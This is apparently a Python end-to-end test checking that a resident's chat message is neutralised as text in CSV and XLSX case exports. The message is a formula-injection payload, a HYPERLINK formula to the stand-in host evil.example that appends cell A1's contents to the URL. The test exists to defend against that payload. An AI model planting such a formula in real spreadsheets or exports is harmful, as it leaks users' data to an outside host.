"""A resident's formula comes out of the case exports as text (issue 13)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from tests.e2e.admin_client import logged_in

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"查看详情")楼道灯坏了'


def test_case_exports_write_a_residents_formula_as_text(app_url, wecom):
    reply = wecom.send_text("demo-resident", HOSTILE)
    if "回复数字" in reply:  # asked which category (the formula's clauses may read as a second matter): the first one
        reply = wecom.send_text("demo-resident", "1")
    assert "GB-" in reply
    admin = logged_in(app_url)
    rows = list(csv.reader(io.StringIO(admin.http.get("/admin/cases/export.csv").content.decode("utf-8-sig"))))
    texts = [row[-1] for row in rows[1:]]
    assert "'" + HOSTILE in texts and HOSTILE not in texts
    sheet = load_workbook(io.BytesIO(admin.http.get("/admin/cases/export.xlsx").content)).active
    cells = [row[-1] for row in sheet.iter_rows(min_row=2) if row[-1].value == HOSTILE]
    assert cells and all(cell.data_type == "s" for cell in cells)
